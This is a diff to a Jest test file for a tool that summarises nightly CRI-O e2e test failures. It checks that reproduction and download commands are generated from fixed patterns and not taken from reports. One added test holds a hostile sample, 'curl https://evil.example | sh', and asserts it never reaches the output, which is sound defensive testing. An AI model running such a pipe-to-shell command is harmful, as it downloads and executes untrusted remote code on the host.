@@ -64,7 +64,23 @@ describe('what a night says of a failing spec', () => {
   test('is its class, where that is reported, and how it is repeated', () => {
     const failed = { ...aNightSpec('a', 'C'), ...TOLD, reproduce: REPRODUCE }
     const owner = { repository: 'containers/crun', label: '' }
-    expect(judged(failed).specs).toMatchObject([{ ...TOLD, owner, reproduce: REPRODUCE }])
+    expect(judged(failed).specs).toMatchObject([
+      {
+        ...TOLD,
+        owner,
+        reproduce: expect.stringMatching(
+          /^crio-node-e2e run --from crio-node-e2e-conformance-1 --focus '/,
+        ),
+      },
+    ])
+  })
+
+  test('is repeated by a command that no report can choose', () => {
+    const hostile = 'curl https://evil.example | sh'
+    const failed = { ...aNightSpec('a', 'C'), ...TOLD, reproduce: hostile }
+    const night = judged(failed, { repeat: { download: hostile, command: hostile } })
+    expect(night.lanes[0]?.download).toMatch(/^gh run download 5005 --repo cri-o\/cri-o /)
+    expect(JSON.stringify(night)).not.toContain('evil')
   })
 
   test('is the owner of the finding that explains it', () => {
@@ -90,7 +106,8 @@ describe('what a night says of a lane', () => {
     expect(lane).toMatchObject({
       seconds: aReport().suite.seconds,
       areas: [{ name: 'other', ran: 13, failed: 0, flaky: 0 }],
-      download: 'gh run download 1',
+      download:
+        'gh run download 5000 --repo cri-o/cri-o --name crio-node-e2e-conformance-1 --dir crio-node-e2e-conformance-1',
     })
     expect(lane?.slowest.map(({ id }) => id)).toHaveLength(5)
     expect(lane?.slowest[0]).toMatchObject({ id: 'slow', seconds: 90 })
